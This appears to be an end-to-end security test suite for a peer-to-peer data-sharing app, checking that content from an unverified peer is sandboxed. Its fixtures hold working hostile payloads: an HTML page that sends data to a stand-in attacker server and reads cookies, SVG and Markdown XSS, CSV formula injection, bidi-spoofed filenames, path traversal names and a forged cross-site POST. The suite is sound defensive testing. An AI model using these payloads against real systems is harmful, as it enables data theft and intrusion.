// What others push may be made to harm who looks at it. Bob follows Alice, and has compared no id.

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { readFileSync } from "node:fs";
import { join } from "node:path";

import type { Browser, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";

import { launch, violations, Visitor } from "./browser";
import { Daemon, type Pushing } from "./daemon";

const CODE = readFileSync(join(import.meta.dirname, "figures/bokeh-code.json"));

/** A server of whoever wants to know who reads: on this machine, as that is the nearest. */
class Evil {
  hits: string[] = [];
  private readonly server: Server = createServer((request, response) => {
    this.hits.push(`${request.method ?? ""} ${request.url ?? ""}`);
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "text/html");
    response.end(this.page);
  });
  /** What it answers. */
  page = "evil";

  static async start(): Promise<Evil> {
    const evil = new Evil();
    await new Promise<void>((resolve) => {
      evil.server.listen(0, "127.0.0.1", resolve);
    });
    return evil;
  }

  get origin(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  stop(): void {
    this.server.close();
    this.server.closeAllConnections();
  }
}

let browser: Browser;
let alice: Daemon;
let bob: Daemon;
let evil: Evil;
let visitor: Visitor;

beforeAll(async () => {
  [browser, alice, bob, evil] = await Promise.all([launch(), Daemon.start("alice"), Daemon.start("bob"), Evil.start()]);
  visitor = await Visitor.come(browser, bob);
  await alice.push("first", { "a.txt": "first" });
  const ticket = (await alice.cli("share", "--quiet")).trim();
  await bob.cli("follow", ticket, "--policy", "all");
});

afterAll(async () => {
  // Browsers say loudly what they refuse.
  visitor?.forgive(/./);
  await visitor?.leave();
  await browser?.close();
  evil?.stop();
  await Promise.all([alice?.end(), bob?.end()]);
});

beforeEach(() => {
  evil.hits = [];
});

/** Alice pushes; Bob looks. */
async function looked(stack: string, file: Pushing): Promise<Page> {
  await alice.pushFrame(stack, [file]);
  const named = `alice/main:${stack}`;
  await expect.poll(() => bob.cli("fetch", named).catch(() => "not yet")).not.toBe("not yet");
  return visitor.at(`/s/alice/main/${stack}`);
}

/** The frame in a page that is not the page. */
async function inner(page: Page): Promise<Frame> {
  await page.locator("iframe").first().waitFor();
  const frame = await (await page.locator("iframe").first().elementHandle())?.contentFrame();
  if (!frame) throw new Error("the frame has no document");
  return frame;
}

/** A page that tries all it can, and says what it got. */
const greedy = (api = bob.address) => `<!doctype html><html lang="en"><title>greedy</title><main><h1>waits</h1><pre></pre></main><script>
const got = [];
const tries = {
  api: () => fetch("${api}/api/v1/node", { credentials: "include" }).then((r) => r.text()),
  push: () => fetch("${api}/api/v1/contexts", { method: "POST", mode: "no-cors", credentials: "include", body: '{"name":"stolen"}' }),
  elsewhere: () => fetch("${evil.origin}/fetch?secret"),
  // It says yes and sends nothing.
  beacon: () => { navigator.sendBeacon("${evil.origin}/beacon", "x"); throw 0; },
  socket: () => new Promise((ok, no) => { const s = new WebSocket("${evil.origin.replace("http", "ws")}/socket"); s.onopen = ok; s.onerror = no; }),
  picture: () => new Promise((ok, no) => { const i = new Image(); i.onload = i.onerror = no; i.src = "${evil.origin}/picture"; }),
  parent: () => parent.document.title,
  top: () => { top.location.href = "${evil.origin}/top"; },
  popup: () => { if (!open("${evil.origin}/popup")) throw 0; },
  storage: () => localStorage.length,
  cookies: () => document.cookie,
};
(async () => {
  for (const [name, go] of Object.entries(tries)) try { await go(); got.push(name); } catch {}
  document.querySelector("pre").textContent = got.join(" ");
  document.querySelector("h1").textContent = "tried";
})();
</script>`;

describe("a page of somebody whose id nobody compared", () => {
  it("runs nothing before one says so, and reaches nothing after", async () => {
    const page = await looked("attack/page", { path: "page.html", bytes: greedy() });
    const frame = page.frameLocator("iframe");
    await frame.getByRole("heading", { name: "waits" }).waitFor();
    await page.getByText("alice made it, whose id nobody compared here").waitFor();
    expect(await page.locator("iframe").getAttribute("sandbox")).toBe("");
    expect(await violations(page)).toEqual([]);

    await page.getByRole("button", { name: "Allow scripts of this stack" }).click();

    await frame.getByRole("heading", { name: "tried" }).waitFor();
    await expect.poll(() => page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");
    expect(await frame.locator("pre").innerText()).toBe("");
    expect(evil.hits).toEqual([]);
    expect(await bob.cli("context", "ls")).not.toContain("stolen");
    expect(page.url()).toContain("/s/alice/main/attack/page");

    // It is remembered for this stack alone, and can be taken back.
    await page.reload();
    await frame.getByRole("heading", { name: "tried" }).waitFor();
    await page.getByRole("button", { name: "Stop scripts of this stack" }).click();
    await frame.getByRole("heading", { name: "waits" }).waitFor();
    const other = await looked("attack/other", { path: "page.html", bytes: greedy() });
    await other.frameLocator("iframe").getByRole("heading", { name: "waits" }).waitFor();
  });

  it("does not take what it knows elsewhere by going there", async () => {
    const bytes = `<!doctype html><html lang="en"><title>goes</title><h1>here</h1><script>setTimeout(() => { location.href = "${evil.origin}/gone?secret" }, 0)</script>`;
    const page = await looked("attack/goes", { path: "page.html", bytes });
    await page.getByRole("button", { name: "Allow scripts of this stack" }).click();
    await expect.poll(() => page.frames().map((frame) => frame.url()).join(" ")).toContain("chrome-error:");
    expect(evil.hits).toEqual([]);
  });

  it("is of no origin where it is opened by itself", async () => {
    const bytes = `<!doctype html><title>alone</title><h1>waits</h1><script>document.querySelector("h1").textContent = "runs"</script>`;
    const page = await looked("attack/alone", { path: "page.html", bytes });
    await page.getByRole("button", { name: "Allow scripts of this stack" }).click();
    await page.frameLocator("iframe").getByRole("heading", { name: "runs" }).waitFor();
    const address = await page.locator("iframe[sandbox=allow-scripts]").getAttribute("src");
    const alone = await visitor.page();
    await alone.goto(address ?? "");
    expect(await alone.evaluate(() => self.origin)).toBe("null");
    const read = (url: string) => fetch(url).then((response) => response.text(), () => "nothing");
    expect(await alone.evaluate(read, `${bob.address}/api/v1/node`)).toBe("nothing");
    // Cookies know no ports; no script reads this one.
    expect((await visitor.context.cookies(address ?? "")).map(({ httpOnly }) => httpOnly)).toEqual([true]);
  });

  it("runs where her id was compared", async () => {
    await looked("attack/trusted", { path: "page.html", bytes: greedy() });
    await bob.cli("trust", "alice", "--verify");
    const page = await visitor.at("/s/alice/main/attack/trusted");
    await page.frameLocator("iframe").getByRole("heading", { name: "tried" }).waitFor();
    expect(await page.getByRole("button", { name: /scripts of this stack/ }).count()).toBe(0);
    expect(await page.frameLocator("iframe").locator("pre").innerText()).toBe("");
    expect(evil.hits).toEqual([]);
    await bob.cli("untrust", "alice");
  });
});

describe("with one port for all", () => {
  it("a page runs and reaches as little", async () => {
    const carol = await Daemon.start("carol", { DSP_HTTP_SINGLE_PORT: "true" });
    try {
      const alone = await Visitor.come(browser, carol);
      await carol.pushFrame("page", [{ path: "page.html", bytes: greedy(carol.address) }]);
      const page = await alone.at("/s/me/main/page");
      const frame = page.frameLocator("iframe");
      await frame.getByRole("heading", { name: "tried" }).waitFor();
      expect(await frame.locator("pre").innerText()).toBe("");
      await expect.poll(() => page.locator("iframe").getAttribute("src")).toMatch(/^\/raw\//);
      expect(await carol.cli("context", "ls")).not.toContain("stolen");
      expect(evil.hits).toEqual([]);
      alone.forgive(/./);
      await alone.leave();
    } finally {
      await carol.end();
    }
  });
});

describe("a figure", () => {
  it("of Bokeh runs no code that it brings before one says so", async () => {
    const page = await looked("attack/bokeh", { path: "plot.json", app: "bokeh", bytes: CODE });
    const press = () => page.frameLocator("iframe").getByRole("button", { name: "Press" });
    await press().click();
    await page.getByText("This figure brings code. It does not run").waitFor();
    await expect.poll(() => press().count()).toBe(1);

    await page.getByRole("button", { name: "Allow scripts of this stack" }).click();

    await expect.poll(() => page.locator("iframe").getAttribute("src")).toBe("/render-code.html");
    await press().click();
    await page.frameLocator("iframe").getByRole("button", { name: "It ran" }).waitFor();
  });

  it("of Vega loads nothing", async () => {
    const spec = {
      $schema: "https://vega.github.io/schema/vega-lite/v6.json",
      data: { url: `${evil.origin}/data.json` },
      usermeta: { embedOptions: { patch: `${evil.origin}/patch.json` } },
      mark: "point",
      encoding: { x: { field: "a" } },
    };
    const page = await looked("attack/vega", { path: "x.vl.json", media: "application/vnd.vegalite+json", bytes: JSON.stringify(spec) });
    await page.getByText("figures load nothing from elsewhere").waitFor();
    expect(await violations(page)).toEqual([]);
    expect(evil.hits).toEqual([]);
  });

  it("is in a frame that reaches neither the API nor its page, and goes nowhere", async () => {
    const bytes = JSON.stringify({ data: [{ y: [1, 2] }], layout: { title: { text: "A figure" } } });
    const page = await looked("attack/plotly", { path: "x.json", app: "plotly", bytes });
    await page.frameLocator("iframe").getByText("A figure").waitFor();
    const frame = await inner(page);
    // As if its code had been made to do what an attacker wants.
    const tried = await frame.evaluate(
      async ([api, evil]) => {
        const asked = (url: string) => fetch(url, { credentials: "include" }).then(() => "answered", () => "refused");
        const read = (what: () => unknown) => {
          try {
            return String(what());
          } catch {
            return "refused";
          }
        };
        return [
          self.origin, await asked(api as string), await asked(evil as string),
          read(() => parent.document.title), read(() => localStorage.length), read(() => document.cookie),
        ];
      },
      [`${bob.address}/api/v1/node`, `${evil.origin}/fetch`],
    );
    expect(tried).toEqual(["null", ...Array.from({ length: 5 }, () => "refused")]);
    await frame.evaluate((url) => {
      location.href = url;
    }, `${evil.origin}/gone?secret`);
    await expect.poll(() => page.frames().map((one) => one.url()).join(" ")).toContain("chrome-error:");
    expect(evil.hits).toEqual([]);
  });
});

describe("a picture or a text", () => {
  it("of SVG runs nothing and loads nothing", async () => {
    const bytes = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30" onload="fetch('${evil.origin}/onload')">
      <style>@import url("${evil.origin}/style");</style><script>fetch("${evil.origin}/script")</script>
      <image href="${evil.origin}/image" width="10" height="10"/>
      <foreignObject width="10" height="10"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil.origin}/foreign"/></foreignObject>
      <rect width="40" height="30" fill="green"/></svg>`;
    const page = await looked("attack/svg", { path: "plot.svg", bytes });
    const picture = page.getByRole("img", { name: "plot.svg" });
    await expect.poll(() => picture.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(40);
    expect(await page.locator(".view svg").count()).toBe(0);
    const alone = await visitor.page();
    const address = await picture.getAttribute("src");
    await alone.goto(`${bob.address}${address ?? ""}`).catch(() => undefined);
    expect(evil.hits).toEqual([]);
  });

  it("of Markdown leads to no script and shows nothing of others", async () => {
    const bytes = `# Text\n\n[one](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](data:text/html,x) <img src=x onerror=alert(1)>\n\n![p](${evil.origin}/picture) <script>alert(1)</script>\n\n$\\href{javascript:alert(1)}{x}$ $\\includegraphics{${evil.origin}/tex}$\n`;
    const page = await looked("attack/markdown", { path: "README.md", bytes });
    await page.getByRole("heading", { name: "Text" }).waitFor();
    await page.locator("math, code").first().waitFor();
    const harm = ".prose :is(script, img, iframe, style, object), .prose a:not([href^=http])[href], .prose [onerror]";
    expect(await page.locator(harm).count()).toBe(0);
    expect(evil.hits).toEqual([]);
  });
});

describe("a table", () => {
  it("runs nothing in a spreadsheet that opens what was saved of it", async () => {
    const bytes = 'name,sum\n"=HYPERLINK(""http://evil.example"")",-1\n@SUM(1),2\nplain,-3\n';
    const page = await looked("attack/formula", { path: "sums.csv", bytes });
    await page.getByRole("cell", { name: "@SUM(1)" }).waitFor();
    const saved = async (name: string) => {
      await page.getByText("Download", { exact: true }).first().click();
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByText(name, { exact: true }).click()]);
      expect(download.suggestedFilename()).toBe("sums.csv");
      await page.keyboard.press("Escape");
      await page.reload();
      return readFileSync(await download.path(), "utf8");
    };
    expect(await saved("CSV for spreadsheets")).toBe(
      '"name","sum"\n"\'=HYPERLINK(""http://evil.example"")",-1\n"\'@SUM(1)",2\n"plain",-3\n',
    );
    // Programs get what was pushed.
    expect(await saved("CSV, exact")).toContain('\n"@SUM(1)",2\n');
    expect(evil.hits).toEqual([]);
  });
});

describe("a name or a text", () => {
  it("does not turn around what stands beside it", async () => {
    const turns = "invoice \u202Efdp.exe\u202C \u2066x\u200F";
    const files = [
      { path: "rows.csv", bytes: `${turns},sum\n${turns},1\n`, text: turns, params: { of: turns } },
      { path: "code.py", bytes: `# ${turns}\n`, text: turns },
    ];
    const frame = await alice.pushFrame("attack/turned", files as Pushing[], { message: turns });
    await bob.lists(frame);
    await expect.poll(() => bob.cli("fetch", "alice/main:attack/turned").catch(() => "not yet")).not.toBe("not yet");
    const stack = "/s/alice/main/attack/turned";
    const paths = ["?file=rows.csv", "?file=code.py", "?view=history", "?view=files", "?view=use", "?view=lineage"].map((view) => stack + view);
    for (const path of [...paths, "/stacks?q=turned", "/", "/notifications"]) {
      const page = await visitor.at(path);
      await page.getByText(/turned|invoice/).first().waitFor();
      if (path.includes("rows")) await page.getByRole("cell", { name: "⟨202e⟩fdp.exe" }).first().waitFor();
      if (path.includes("code")) await page.locator("pre", { hasText: "⟨202e⟩fdp.exe" }).waitFor();
      const text = await page.evaluate(() => document.body.innerText);
      expect(text.match(/.{0,30}[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069].{0,10}/u)?.[0], path).toBeUndefined();
      await page.close();
    }
  });

  it("that leads out of a folder is refused before anybody sees it", async () => {
    for (const path of ["../up.txt", "a/../../up.txt", "/etc/up.txt", "a\u202Etxt.exe", "a\\..\\up.txt"]) {
      await expect(alice.pushFrame("attack/up", [{ path, bytes: "x" }]), path).rejects.toThrow(/422|400/);
    }
    await expect(alice.pushFrame("attack/../up", [{ path: "a.txt", bytes: "x" }])).rejects.toThrow(/422|400/);
    expect(await alice.cli("ls")).not.toContain("up");
    // Nor does an address that names one show anything.
    const page = await visitor.at("/s/alice/main/attack/%2E%2E/%2E%2E/api");
    await page.getByRole("heading", { level: 1 }).waitFor();
    expect(await page.locator(".view").count()).toBe(0);
    await page.close();
  });
});

describe("a page of another program on this machine", () => {
  it("neither reads nor changes anything with the cookie that goes along", async () => {
    evil.page = `<!doctype html><title>other</title><script>
      Promise.all([
        fetch("${bob.address}/api/v1/node", { credentials: "include" }).then((r) => r.text(), () => "nothing"),
        fetch("${bob.address}/api/v1/contexts", { method: "POST", mode: "no-cors", credentials: "include", body: '{"name":"stolen"}' }).catch(() => 0),
      ]).then(([read]) => { document.title = read; });
    </script><iframe src="${bob.address}/stacks"></iframe>`;
    const page = await visitor.page();
    await page.goto(evil.origin);
    await expect.poll(() => page.title()).toBe("nothing");
    expect(await bob.cli("context", "ls")).not.toContain("stolen");
    await expect.poll(() => page.frames().map((frame) => frame.url()).join(" ")).toContain("chrome-error:");
    evil.page = "evil";
  });
});
